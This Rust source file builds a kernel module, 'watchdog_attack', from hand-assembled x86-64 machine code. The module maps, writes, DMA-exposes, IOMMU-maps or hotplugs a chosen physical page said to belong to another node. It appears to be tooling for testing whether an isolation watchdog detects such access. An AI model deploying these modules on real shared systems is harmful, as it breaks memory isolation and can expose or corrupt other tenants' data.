//! A kernel module that accesses another node's memory as drivers access the memory of their
//! devices. It is made for one kernel and one physical address.
//!
//! The offsets of fields come from the kernel's BTF. The parameters of every called function are
//! checked against the BTF too.

use anyhow::{Result, ensure};
use object::write::SymbolId;

use crate::btf::{ANY_SIZE, Btf};
use crate::kernel::Kernel;
use crate::module::{Code, Module};

/// The module's name.
pub const NAME: &str = "watchdog_attack";
/// The device of [`Kind::Remap`] and [`Kind::Fault`].
pub const DEVICE: &str = "/dev/watchdog_attack";
/// Bytes that [`Kind::Hotplug`] adds: the smallest block of memory on x86-64.
pub const HOTPLUG_SIZE: u64 = 128 << 20;

const PAGE: u32 = 4096;
/// More bytes than any structure here has.
const ROOM: [u8; 0x400] = [0; 0x400];
/// `MISC_DYNAMIC_MINOR` (include/linux/miscdevice.h).
const ANY_MINOR: u32 = 255;
/// `VM_PFNMAP | VM_IO | VM_DONTEXPAND | VM_DONTDUMP` (include/linux/mm.h).
const DEVICE_MEMORY: u32 = 0x400 | 0x4000 | 0x4_0000 | 0x400_0000;
/// The device that gets write access and never uses it: the host bridge, device 0 of bus 0.
const BRIDGE: u32 = 0;
/// How the IOMMU, if there is one, treats the device: `DMA` translates, `identity` does not.
pub const BRIDGE_DOMAIN: &str = "/sys/bus/pci/devices/0000:00:00.0/iommu_group/type";
/// The I/O virtual address at which the IOMMU maps the page for the device.
const FOR_DEVICE: u32 = 0x1000_0000;
/// `IOMMU_READ` and `IOMMU_WRITE` (include/linux/iommu.h).
const IOMMU_READ: u32 = 1;
const IOMMU_WRITE: u32 = 2;
/// `GFP_KERNEL` (include/linux/gfp_types.h).
const GFP_KERNEL: u32 = 0xcc0;
/// Bytes of `struct page`.
const PAGE_STRUCT: u64 = 64;
/// `MEMREMAP_WB` (include/linux/io.h).
const WRITE_BACK: u32 = 1;

/// First bytes of conditional jumps.
const JZ: u8 = 0x74;
const JNZ: u8 = 0x75;

/// What the module does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// [`DEVICE`], whose mmap handler maps the page immediately (`remap_pfn_range`).
    Remap,
    /// [`DEVICE`], whose mmap handler maps nothing: the first access does (`vmf_insert_pfn`).
    Fault,
    /// When loaded, maps the page for the kernel as device registers (`ioremap`), and writes this
    /// byte at its start. Loading fails if the kernel does not map it.
    Ioremap(u8),
    /// The same as ordinary memory (`memremap`).
    Memremap(u8),
    /// When loaded, gives a device write access to the page, by its `struct page` (`dma_map_page`),
    /// and revokes it.
    DmaPage,
    /// The same by its physical address (`dma_map_resource`).
    DmaResource,
    /// When loaded, maps the page in a device's IOMMU domain, readable and perhaps writable
    /// (`iommu_map`), and unmaps it. Loading fails if there is no IOMMU or it refuses.
    Iommu {
        /// Whether the device may write.
        writes: bool,
    },
    /// When loaded, adds [`HOTPLUG_SIZE`] bytes of memory (`add_memory`), and stays loaded even if
    /// that fails. When unloaded, removes the added memory.
    Hotplug,
}

/// Makes the module for this kernel and this physical address. The address is that of a page, or of
/// a memory block for [`Kind::Hotplug`].
///
/// # Errors
/// If the kernel has no module to copy from, or lacks something that the module needs.
pub fn module(kernel: &Kernel, kind: Kind, at: u64) -> Result<Vec<u8>> {
    let boundary = if kind == Kind::Hotplug { HOTPLUG_SIZE } else { PAGE.into() };
    ensure!(at.is_multiple_of(boundary), "{at:#x} is not an address for {kind:?}");
    let module = Module::new(kernel, NAME, &[])?;
    let maker = Maker { module, types: kernel.types()?, at };
    match kind {
        Kind::Remap => maker.remap(),
        Kind::Fault => maker.fault(),
        Kind::Ioremap(value) => maker.write(value, ("ioremap", 2), ("iounmap", 1)),
        Kind::Memremap(value) => maker.write(value, ("memremap", 3), ("memunmap", 1)),
        Kind::DmaPage => maker.dma_page(),
        Kind::DmaResource => maker.dma_resource(),
        Kind::Iommu { writes } => maker.iommu(writes),
        Kind::Hotplug => maker.hotplug(),
    }
}

struct Maker {
    module: Module,
    types: Btf,
    at: u64,
}

impl Maker {
    fn import(&mut self, (name, parameters): (&str, usize)) -> Result<SymbolId> {
        self.types.check_function(name, parameters)?;
        Ok(self.module.import(name))
    }

    /// Returns the offset of a field of eight bytes.
    fn field(&self, structure: &str, field: &str) -> Result<u32> {
        Ok(self.types.offset(structure, field, 8)?)
    }

    /// mmap(file, vma): `remap_pfn_range(vma, vma->vm_start, at >> 12, 4096, vma->vm_page_prot)`.
    fn remap(mut self) -> Result<Vec<u8>> {
        let remap = self.import(("remap_pfn_range", 5))?;
        let start = self.field("vm_area_struct", "vm_start")?;
        let protection = self.field("vm_area_struct", "vm_page_prot")?;
        let mmap = Code::entry()
            .bytes(b"\x48\x89\xf7") // mov rdi, rsi
            .bytes(b"\x48\x8b\xb7") // mov rsi, [rdi + vm_start]
            .bytes(&start.to_le_bytes())
            .bytes(&self.frame_as_third_argument())
            .bytes(b"\xb9") // mov ecx, 4096
            .bytes(&PAGE.to_le_bytes())
            .bytes(b"\x4c\x8b\x87") // mov r8, [rdi + vm_page_prot]
            .bytes(&protection.to_le_bytes())
            .tail_call(remap);
        self.device(&mmap)
    }

    /// mmap(file, vma): `vma->vm_ops = &operations; vma->vm_flags |= DEVICE_MEMORY; return 0`.
    /// fault(vmf): `return vmf_insert_pfn(vmf->vma, vmf->address, at >> 12)`.
    fn fault(mut self) -> Result<Vec<u8>> {
        let insert = self.import(("vmf_insert_pfn", 3))?;
        let fault = Code::entry()
            .bytes(b"\x48\x8b\xb7") // mov rsi, [rdi + address]
            .bytes(&self.field("vm_fault", "address")?.to_le_bytes())
            .bytes(b"\x48\x8b\xbf") // mov rdi, [rdi + vma]
            .bytes(&self.field("vm_fault", "vma")?.to_le_bytes())
            .bytes(&self.frame_as_third_argument())
            .tail_call(insert);
        let fault = self.module.function("attack_fault", &fault)?;
        let operations = self.module.data("attack_vm_operations", &ROOM);
        let handler = self.field("vm_operations_struct", "fault")?;
        self.module.point(operations, handler.into(), fault)?;
        let mmap = Code::entry()
            .bytes(b"\x48\x8d\x05") // lea rax, [rip + operations]
            .to(operations)
            .bytes(b"\x48\x89\x86") // mov [rsi + vm_ops], rax
            .bytes(&self.field("vm_area_struct", "vm_ops")?.to_le_bytes())
            .bytes(b"\x48\x81\x8e") // or qword [rsi + vm_flags], DEVICE_MEMORY
            .bytes(&self.field("vm_area_struct", "vm_flags")?.to_le_bytes())
            .bytes(&DEVICE_MEMORY.to_le_bytes())
            .return_zero();
        self.device(&mmap)
    }

    /// `mov rdx, at >> 12`.
    fn frame_as_third_argument(&self) -> Vec<u8> {
        [b"\x48\xba".as_slice(), &(self.at / u64::from(PAGE)).to_le_bytes()].concat()
    }

    /// Makes a module that registers a device with this mmap handler.
    fn device(mut self, mmap: &Code) -> Result<Vec<u8>> {
        let register = self.import(("misc_register", 1))?;
        let deregister = self.import(("misc_deregister", 1))?;
        let mmap = self.module.function("attack_mmap", mmap)?;
        let this = self.module.this();
        // With an owner, the module stays loaded while the device is open.
        let operations = self.module.data("attack_file_operations", &ROOM);
        self.module.point(operations, self.field("file_operations", "owner")?.into(), this)?;
        self.module.point(operations, self.field("file_operations", "mmap")?.into(), mmap)?;
        let name = self.module.data("attack_name", format!("{NAME}\0").as_bytes());
        let device = self.module.data("attack_device", &ROOM);
        let minor = self.types.offset("miscdevice", "minor", 4)?;
        self.module.fill(device, minor.into(), &ANY_MINOR.to_le_bytes());
        self.module.point(device, self.field("miscdevice", "name")?.into(), name)?;
        self.module.point(device, self.field("miscdevice", "fops")?.into(), operations)?;
        let init = Code::entry().first_argument(device).tail_call(register);
        let cleanup = Code::entry().first_argument(device).tail_call(deregister);
        self.module.finish(&init, &cleanup)
    }

    /// init: `p = map(at, 4096, MEMREMAP_WB); if (!p) return -ENOMEM; *p = value; unmap(p);
    /// return 0`. `ioremap` takes no third argument.
    fn write(mut self, value: u8, map: (&str, usize), unmap: (&str, usize)) -> Result<Vec<u8>> {
        let (map, unmap) = (self.import(map)?, self.import(unmap)?);
        let mapped = Code::default()
            .bytes(b"\xc6\x00") // mov byte [rax], value
            .bytes(&[value])
            .bytes(b"\x48\x89\xc7") // mov rdi, rax
            .call(unmap)
            .bytes(b"\x48\x83\xc4\x08") // add rsp, 8
            .return_zero();
        let init = Code::entry()
            .bytes(b"\x48\x83\xec\x08") // sub rsp, 8
            .bytes(b"\x48\xbf") // mov rdi, at
            .bytes(&self.at.to_le_bytes())
            .bytes(b"\xbe") // mov esi, 4096
            .bytes(&PAGE.to_le_bytes())
            .bytes(b"\xba") // mov edx, MEMREMAP_WB
            .bytes(&WRITE_BACK.to_le_bytes())
            .call(map)
            .bytes(b"\x48\x85\xc0") // test rax, rax
            .jump_over(JZ, mapped)?
            .bytes(b"\xb8") // mov eax, -ENOMEM
            .bytes(&(-libc::ENOMEM).to_le_bytes())
            .bytes(b"\x48\x83\xc4\x08\xc3"); // add rsp, 8; ret
        self.module.finish(&init, &Code::entry().bytes(b"\xc3"))
    }

    /// `address = dma_map_page_attrs(device, page, 0, 4096, DMA_BIDIRECTIONAL, 0)`.
    fn dma_page(mut self) -> Result<Vec<u8>> {
        let map = self.import(("dma_map_page_attrs", 6))?;
        let unmap = self.import(("dma_unmap_page_attrs", 5))?;
        let pages = self.module.import("vmemmap_base");
        let page = self.at / u64::from(PAGE) * PAGE_STRUCT;
        let map = Code::default()
            .bytes(b"\x48\xbe") // mov rsi, its place among all pages
            .bytes(&page.to_le_bytes())
            .bytes(b"\x48\x03\x35") // add rsi, [rip + vmemmap_base]
            .to(pages)
            .bytes(b"\x31\xd2\xb9") // xor edx, edx; mov ecx, 4096
            .bytes(&PAGE.to_le_bytes())
            .bytes(b"\x45\x31\xc0\x45\x31\xc9") // xor r8d, r8d; xor r9d, r9d
            .call(map);
        self.dma(map, unmap)
    }

    /// `address = dma_map_resource(device, at, 4096, DMA_BIDIRECTIONAL, 0)`.
    fn dma_resource(mut self) -> Result<Vec<u8>> {
        let map = self.import(("dma_map_resource", 5))?;
        let unmap = self.import(("dma_unmap_resource", 5))?;
        let map = Code::default()
            .bytes(b"\x48\xbe") // mov rsi, at
            .bytes(&self.at.to_le_bytes())
            .bytes(b"\xba") // mov edx, 4096
            .bytes(&PAGE.to_le_bytes())
            .bytes(b"\x31\xc9\x45\x31\xc0") // xor ecx, ecx; xor r8d, r8d
            .call(map);
        self.dma(map, unmap)
    }

    /// With the device in rdi: `map; unmap(device, address, 4096, DMA_BIDIRECTIONAL, 0)`.
    fn dma(self, map: Code, unmap: SymbolId) -> Result<Vec<u8>> {
        let act = map
            .bytes(b"\x4c\x89\xe7\x48\x89\xc6\xba") // mov rdi, r12; mov rsi, rax; mov edx, 4096
            .bytes(&PAGE.to_le_bytes())
            .bytes(b"\x31\xc9\x45\x31\xc0") // xor ecx, ecx; xor r8d, r8d
            .call(unmap)
            .bytes(b"\x45\x31\xe4"); // xor r12d, r12d
        self.with_device(act)
    }

    /// With the device in rdi: `domain = iommu_get_domain_for_dev(device); if (domain) {
    /// iommu_map(domain, FOR_DEVICE, at, 4096, protection, GFP_KERNEL);
    /// unmapped = iommu_unmap(domain, FOR_DEVICE, 4096) }; result = unmapped - 4096`.
    fn iommu(mut self, writes: bool) -> Result<Vec<u8>> {
        let domain = self.import(("iommu_get_domain_for_dev", 1))?;
        // Before 6.3 it takes no allocation flags; then it ignores the sixth argument.
        let map = self.import(("iommu_map", 6)).or_else(|_| self.import(("iommu_map", 5)))?;
        let unmap = self.import(("iommu_unmap", 3))?;
        let protection = if writes { IOMMU_READ | IOMMU_WRITE } else { IOMMU_READ };
        let mapped = Code::default()
            .bytes(b"\x48\x89\xc7\xbe") // mov rdi, rax; mov esi, FOR_DEVICE
            .bytes(&FOR_DEVICE.to_le_bytes())
            .bytes(b"\x48\xba") // mov rdx, at
            .bytes(&self.at.to_le_bytes())
            .bytes(b"\xb9") // mov ecx, 4096
            .bytes(&PAGE.to_le_bytes())
            .bytes(b"\x41\xb8") // mov r8d, protection
            .bytes(&protection.to_le_bytes())
            .bytes(b"\x41\xb9") // mov r9d, GFP_KERNEL
            .bytes(&GFP_KERNEL.to_le_bytes())
            .call(map)
            .bytes(b"\x4c\x89\xe7\xbe") // mov rdi, r12; mov esi, FOR_DEVICE
            .bytes(&FOR_DEVICE.to_le_bytes())
            .bytes(b"\xba") // mov edx, 4096
            .bytes(&PAGE.to_le_bytes())
            .call(unmap)
            .bytes(b"\x49\x89\xc4"); // mov r12, rax
        let act = Code::default()
            .call(domain)
            .bytes(b"\x49\x89\xc4\x48\x85\xc0") // mov r12, rax; test rax, rax
            .jump_over(JZ, mapped)?
            .bytes(b"\x49\x81\xec") // sub r12, 4096
            .bytes(&PAGE.to_le_bytes());
        self.with_device(act)
    }

    /// init: `bridge = pci_get_domain_bus_and_slot(0, 0, BRIDGE); if (!bridge) return
    /// -ENODEV; act; pci_dev_put(bridge); return result`. `act` gets the device in rdi and
    /// r12, and leaves its result in r12.
    fn with_device(mut self, act: Code) -> Result<Vec<u8>> {
        let get = self.import(("pci_get_domain_bus_and_slot", 3))?;
        let put = self.import(("pci_dev_put", 1))?;
        let device = self.types.offset("pci_dev", "dev", ANY_SIZE)?;
        let leave = b"\x48\x83\xc4\x08\x41\x5c\x5b\xc3"; // add rsp, 8; pop r12; pop rbx; ret
        let found = Code::default()
            .bytes(b"\x48\x89\xc3\x4c\x8d\xa0") // mov rbx, rax; lea r12, [rax + device]
            .bytes(&device.to_le_bytes())
            .bytes(b"\x4c\x89\xe7") // mov rdi, r12
            .then(act)
            .bytes(b"\x48\x89\xdf") // mov rdi, rbx
            .call(put)
            .bytes(b"\x44\x89\xe0") // mov eax, r12d
            .bytes(leave);
        let init = Code::entry()
            .bytes(b"\x53\x41\x54\x48\x83\xec\x08") // push rbx; push r12; sub rsp, 8
            .bytes(b"\x31\xff\x31\xf6\xba") // xor edi, edi; xor esi, esi; mov edx, BRIDGE
            .bytes(&BRIDGE.to_le_bytes())
            .call(get)
            .bytes(b"\x48\x85\xc0") // test rax, rax
            .jump_over(JZ, found)?
            .bytes(b"\xb8") // mov eax, -ENODEV
            .bytes(&(-libc::ENODEV).to_le_bytes())
            .bytes(leave);
        self.module.finish(&init, &Code::entry().bytes(b"\xc3"))
    }

    /// init: `result = add_memory(0, at, HOTPLUG_SIZE, 0); return 0`.
    /// cleanup: `if (!result) remove_memory(at, HOTPLUG_SIZE)`.
    fn hotplug(mut self) -> Result<Vec<u8>> {
        let add = self.import(("add_memory", 4))?;
        let remove = self.import(("remove_memory", 2))?;
        let size = u32::try_from(HOTPLUG_SIZE)?;
        let result = self.module.data("attack_result", &[0; 4]);
        let init = Code::entry()
            .bytes(b"\x48\x83\xec\x08") // sub rsp, 8
            .bytes(b"\x31\xff") // xor edi, edi
            .bytes(b"\x48\xbe") // mov rsi, at
            .bytes(&self.at.to_le_bytes())
            .bytes(b"\xba") // mov edx, HOTPLUG_SIZE
            .bytes(&size.to_le_bytes())
            .bytes(b"\x31\xc9") // xor ecx, ecx
            .call(add)
            .bytes(b"\x89\x05") // mov [rip + result], eax
            .to(result)
            .bytes(b"\x48\x83\xc4\x08") // add rsp, 8
            .return_zero();
        let added = Code::default()
            .bytes(b"\x48\xbf") // mov rdi, at
            .bytes(&self.at.to_le_bytes())
            .bytes(b"\xbe") // mov esi, HOTPLUG_SIZE
            .bytes(&size.to_le_bytes())
            .tail_call(remove);
        let cleanup = Code::entry()
            .bytes(b"\x8b\x05") // mov eax, [rip + result]
            .to(result)
            .bytes(b"\x85\xc0") // test eax, eax
            .jump_over(JNZ, added)?
            .bytes(b"\xc3"); // ret
        self.module.finish(&init, &cleanup)
    }
}
